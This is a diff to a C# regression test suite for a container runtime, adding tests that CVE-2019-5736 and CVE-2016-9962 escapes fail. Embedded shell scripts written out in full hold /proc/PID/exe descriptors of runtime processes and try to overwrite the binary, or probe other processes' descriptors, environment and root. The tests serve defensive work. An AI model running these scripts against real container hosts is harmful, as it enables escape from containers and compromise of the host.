@@ -22,26 +22,7 @@ public sealed class ProcPidAccessTests(Suite suite)
     public void Cve_2019_5736_container_cannot_overwrite_the_runtime_binary_through_proc_pid_exe()
     {
         using var attacker = new TestContainer(suite);
-        attacker.Share().Shell(
-            """
-            cd /proc
-            echo up > /share/ready
-            while [ ! -e /share/stop ]; do
-              for p in [0-9]*; do
-                [ -e /share/held-$p ] && continue
-                l=$(readlink /proc/$p/exe 2>/dev/null) || continue
-                case "$l" in /bin/*|/usr/*|/sbin/*|"") continue;; esac
-                echo "$l" > /share/held-$p
-                ( exec 3</proc/$p/exe
-                  while [ ! -e /share/stop ]; do
-                    if { printf PWNED 1<>/proc/self/fd/3; } 2>/share/error-$p; then echo "$l" > /share/wrote-$p; exit; fi
-                    sleep 0.05
-                  done ) &
-              done
-              sleep 0.02
-            done
-            wait
-            """);
+        attacker.Share().Shell(HoldAndWriteEveryRuntimeExe);
         attacker.Create().AssertSuccess();
         attacker.Start().AssertSuccess();
         Wait.ForFile(attacker.SharedFile("ready"));
@@ -119,6 +100,102 @@ public sealed class ProcPidAccessTests(Suite suite)
         var probe = File.ReadAllText(attacker.SharedFile($"probe-{pidSeenByAttacker}"));
         Assert.True(probe.Trim() == "end", $"the container reached the runtime's joining process {pidSeenByAttacker} through /proc:\n{probe}");
     }
+
+    /// <summary>
+    /// The same attack on `exec`: the joining process sits in the container's PID namespace from
+    /// its fork to its execve, as the runtime; a `#!/proc/self/exe` program is exec'd too. The
+    /// window is short, so the attacker scans while a series of execs runs.
+    /// </summary>
+    [Fact]
+    public void Cve_2019_5736_exec_cannot_be_used_to_overwrite_the_runtime_binary()
+    {
+        using var c = new TestContainer(suite);
+        var runtime = new RuntimeCopy(c);
+        Attack.WriteExecutable(Path.Combine(c.Rootfs, "evil"), "#!/proc/self/exe\n");
+        c.Share().Shell(HoldAndWriteEveryRuntimeExe);
+        c.Create().AssertSuccess();
+        c.Start().AssertSuccess();
+        Wait.ForFile(c.SharedFile("ready"));
+
+        for (var i = 0; i < 15; i++)
+        {
+            runtime.Invoke(c, "exec", c.Id, "/evil");
+            runtime.Invoke(c, "exec", c.Id, "sleep", "0.05");
+        }
+        Thread.Sleep(1500); // no exec runs the binary any more: a held descriptor could be written now
+        File.WriteAllText(c.SharedFile("stop"), "");
+        Wait.Until(() => c.State().Status == "stopped", "the attacker to stop", TimeSpan.FromSeconds(10));
+
+        var report = string.Join('\n', Directory.EnumerateFiles(c.ShareDir).Order()
+            .Select(f => $"{Path.GetFileName(f)}: {File.ReadAllText(f).Trim()}"));
+        Assert.True(runtime.Unchanged, $"the runtime's binary was modified from inside the container\n{report}");
+        Assert.DoesNotContain(Directory.EnumerateFiles(c.ShareDir), f => Path.GetFileName(f).StartsWith("wrote-"));
+    }
+
+    /// <summary>
+    /// CVE-2016-9962 on `exec`: the container's init watches /proc for new processes and tries to
+    /// open the descriptors, environment, root and executable of each one while it is still the
+    /// runtime (its executable is not one of the container's programs).
+    /// </summary>
+    [Fact]
+    public void Cve_2016_9962_exec_process_is_closed_to_the_container_until_it_execs()
+    {
+        using var c = new TestContainer(suite);
+        c.Share().Shell(
+            """
+            cd /proc
+            echo up > /share/ready
+            while [ ! -e /share/stop ]; do
+              for p in [0-9]*; do
+                l=$(readlink /proc/$p/exe 2>/dev/null) || continue
+                case "$l" in /bin/*|/usr/*|/sbin/*|"") continue;; esac
+                { echo "exe: $l"
+                  for f in $(ls /proc/$p/fd 2>/dev/null); do t=$(readlink /proc/$p/fd/$f 2>/dev/null) && echo "fd $f: $t"; done
+                  head -c 64 /proc/$p/environ >/dev/null 2>&1 && echo "environ readable"
+                  ls /proc/$p/root/ >/dev/null 2>&1 && echo "root listable"
+                } > /share/reached-$p
+              done
+            done
+            """);
+        c.Create().AssertSuccess();
+        c.Start().AssertSuccess();
+        Wait.ForFile(c.SharedFile("ready"));
+
+        for (var i = 0; i < 30; i++)
+            c.Cli.Invoke("exec", c.Id, "true").AssertSuccess();
+        File.WriteAllText(c.SharedFile("stop"), "");
+        Wait.Until(() => c.State().Status == "stopped", "the attacker to stop", TimeSpan.FromSeconds(10));
+
+        var reached = Directory.EnumerateFiles(c.ShareDir, "reached-*").Select(f => $"{Path.GetFileName(f)}:\n{File.ReadAllText(f)}").ToList();
+        Assert.True(reached.Count == 0, $"the container reached an exec'ing runtime process:\n{string.Join('\n', reached)}");
+    }
+
+    /// <summary>
+    /// Opens /proc/PID/exe of every process whose executable is not one of the container's own
+    /// programs, holds it, and writes through /proc/self/fd/N until /share/stop appears.
+    /// </summary>
+    private const string HoldAndWriteEveryRuntimeExe =
+        """
+            cd /proc
+            echo up > /share/ready
+            while [ ! -e /share/stop ]; do
+              for p in [0-9]*; do
+                [ -e /share/seen-$p ] && continue
+                : > /share/seen-$p
+                # open first (the window may be short), then look at what was opened
+                ( exec 3</proc/$p/exe || { rm -f /share/seen-$p; exit; } # refused: try again next round
+                  l=$(readlink /proc/self/fd/3)
+                  case "$l" in /bin/*|/usr/*|/sbin/*|"") exit;; esac
+                  echo "$l" > /share/held-$p
+                  while [ ! -e /share/stop ]; do
+                    if { printf PWNED 1<>/proc/self/fd/3; } 2>/share/error-$p; then echo "$l" > /share/wrote-$p; exit; fi
+                    sleep 0.05
+                  done ) 2>/dev/null &
+              done
+              sleep 0.01
+            done
+            wait
+            """;
 
     /// <summary>The pid a process has in its innermost PID namespace (the last NSpid field).</summary>
     internal static int NsPid(int hostPid) =>
